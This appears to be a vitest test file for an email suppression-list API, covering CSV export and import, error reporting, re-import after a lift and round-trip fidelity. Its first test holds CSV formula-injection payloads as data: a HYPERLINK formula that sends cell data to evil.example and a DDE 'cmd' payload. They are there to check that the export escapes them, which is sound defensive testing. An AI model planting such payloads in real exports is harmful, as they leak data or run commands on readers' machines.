import { describe, expect, it } from 'vitest'
import { lines, records } from '../../src/domain/csv'
import { api, checkAddress, ownEvents, postEvents } from '../helpers'

const json = async (res: Response) => (await res.json()) as Record<string, any>
const put = (address: string, body: unknown) =>
  api(`/v1/suppressions/${encodeURIComponent(address)}`, { method: 'PUT', body: JSON.stringify(body) })
/** Every cell of a CSV text, as a spreadsheet would read it (RFC 4180). */
async function cellsOf(csv: string): Promise<string[]> {
  const cells: string[] = []
  for await (const record of records(lines(new Blob([csv]).stream()))) cells.push(...(record.fields ?? []))
  return cells
}
const exportCsv = async (prefix: string) =>
  (await api(`/v1/suppressions/export?format=csv&q=${prefix}`)).text()

describe('CSV export against spreadsheet formulas', () => {
  it('neutralises every cell that starts with = + - @ tab or CR, and import reads the value back unchanged', async () => {
    const prefix = `formula-${crypto.randomUUID().slice(0, 6)}`
    const notes = [
      '=HYPERLINK("http://evil.example/?x="&A1,"open")',
      "+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '-2+3',
      '\tx',
      '\rx',
    ]
    for (const [i, note] of notes.entries())
      expect((await put(`${prefix}.${i}@example.com`, { note })).status).toBe(200)
    expect((await put(`-${prefix}@example.com`, { note: "'=already quoted" })).status).toBe(200)
    const csv = (await exportCsv(prefix)) + (await exportCsv(`-${prefix}`)).split('\n').slice(1).join('\n')
    const cells = await cellsOf(csv)
    expect(cells.length).toBe(9 * (notes.length + 2))
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(csv).toContain(`'-${prefix}@example.com`)
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`)
    expect(csv).toContain(`''=already quoted`)
    const back = await json(
      await api('/v1/suppressions/import?dry_run=true', {
        method: 'POST',
        headers: { 'content-type': 'text/csv' },
        body: csv,
      })
    )
    expect(back).toMatchObject({ valid: notes.length + 1, error_count: 0 })
  })
})

describe('CSV import: every line is applied or reported', () => {
  const importBody = (body: BodyInit, query = '?dry_run=true') =>
    api(`/v1/suppressions/import${query}`, { method: 'POST', headers: { 'content-type': 'text/csv' }, body })

  it('reports a stray quote on its own line and imports the 1,999 others', async () => {
    const prefix = `stray-${crypto.randomUUID().slice(0, 6)}`
    const rows = Array.from(
      { length: 2000 },
      (_, i) => `${prefix}.${i}@example.com,${i === 2 ? '"oops' : 'bounce'}`
    )
    rows[700] = `${prefix}.700@example.com,"mailbox full, 452"`
    const report = await json(await importBody(rows.join('\n')))
    expect(report).toMatchObject({ lines: 2000, valid: 1999, error_count: 1 })
    expect(report.errors).toEqual([{ line: 3, error: 'unbalanced quotes' }])
  })

  it('refuses a Latin-1 line as not UTF-8 instead of importing a mangled address', async () => {
    const latin1 = new Uint8Array([
      ...new TextEncoder().encode('email\nok@example.com\n'),
      0x6a,
      0xe9,
      0x72,
      0xf4,
      0x6d,
      0x65,
      0x40,
      0x65,
      0x78,
      0x2e,
      0x63,
      0x6f,
      0x6d,
      0x0a,
    ])
    const report = await json(await importBody(latin1))
    expect(report).toMatchObject({ lines: 2, valid: 1, error_count: 1 })
    expect(report.errors).toEqual([{ line: 3, error: 'not valid UTF-8 (save the file as UTF-8)' }])
  })
})

const importText = (body: string, query = '') =>
  api(`/v1/suppressions/import${query}`, { method: 'POST', headers: { 'content-type': 'text/csv' }, body })
const lift = (address: string) => api(`/v1/suppressions/${encodeURIComponent(address)}`, { method: 'DELETE' })

describe('re-importing after a lift', () => {
  it('says per line what the import did, and suppresses again only with ?reapply=true', async () => {
    const address = `reimport.${crypto.randomUUID().slice(0, 8)}@example.com`
    const csv = `email,reason\n${address},userunknown\n`
    const first = await json(await importText(csv))
    expect(first).toMatchObject({ applied: 1, unchanged: 0 })
    expect(first.results).toEqual([{ line: 2, address, outcome: 'suppressed', detail: null }])
    expect((await lift(address)).status).toBe(204)

    const again = await json(await importText(csv))
    expect(again).toMatchObject({ applied: 0, unchanged: 1 })
    expect(again.results).toEqual([
      {
        line: 2,
        address,
        outcome: 'duplicate',
        detail:
          'this line was imported before and lifted since; import with ?reapply=true to suppress it again',
      },
    ])
    expect(await checkAddress(address)).toMatchObject({ action: 'send' })

    const reapplied = await json(await importText(csv, '?reapply=true'))
    expect(reapplied).toMatchObject({ applied: 1 })
    expect(reapplied.results[0]).toMatchObject({ outcome: 'suppressed' })
    expect(await checkAddress(address)).toMatchObject({ action: 'drop', reason: 'userunknown' })
  })
})

describe('export → import round trip', () => {
  async function seed(prefix: string) {
    const future = new Date(Date.now() + 5 * 86_400_000).toISOString()
    await put(`${prefix}.a@example.com`, { reason: 'legal_hold', note: 'ticket 42, "quoted"\nsecond line' })
    await put(`${prefix}.b@example.com`, {})
    await put(`${prefix}.c@example.com`, { reason: 'vip_optout', expires_at: future, note: '=1+1' })
    await postEvents(ownEvents.hard(`${prefix}.d@example.com`))
    await postEvents(ownEvents.complaint(`${prefix}.e@example.com`))
    return ['a', 'b', 'c', 'd', 'e'].map((x) => `${prefix}.${x}@example.com`)
  }

  it('is lossless for CSV and NDJSON: export → lift → import → export gives the same file', async () => {
    for (const format of ['csv', 'ndjson']) {
      const prefix = `rt-${format}-${crypto.randomUUID().slice(0, 6)}`
      const addresses = await seed(prefix)
      const before = await (await api(`/v1/suppressions/export?format=${format}&q=${prefix}`)).text()
      // CSV: a header, five rows, and the second line of a's note.
      expect(before.trim().split('\n').length).toBe(format === 'csv' ? 7 : 5)
      for (const address of addresses) expect((await lift(address)).status).toBe(204)
      const report = await json(await importText(before))
      expect(report, format).toMatchObject({ applied: 5, error_count: 0 })
      const after = await (await api(`/v1/suppressions/export?format=${format}&q=${prefix}`)).text()
      expect(after, format).toBe(before)
    }
  })

  it('importing an export into the same instance overwrites nothing: a newer manual entry keeps its note', async () => {
    const prefix = `same-${crypto.randomUUID().slice(0, 6)}`
    await seed(prefix)
    const exported = await exportCsv(prefix)
    await put(`${prefix}.a@example.com`, { reason: 'legal_hold', note: 'changed after the export' })
    const report = await json(await importText(exported))
    expect(report).toMatchObject({ applied: 0, unchanged: 5 })
    expect(new Set(report.results.map((r: any) => r.outcome))).toEqual(new Set(['kept']))
    const detail = await json(await api(`/v1/suppressions/${prefix}.a@example.com`))
    expect(detail.record).toMatchObject({ source: 'manual', note: 'changed after the export' })
    expect(await exportCsv(prefix)).not.toBe(exported)
  })
})
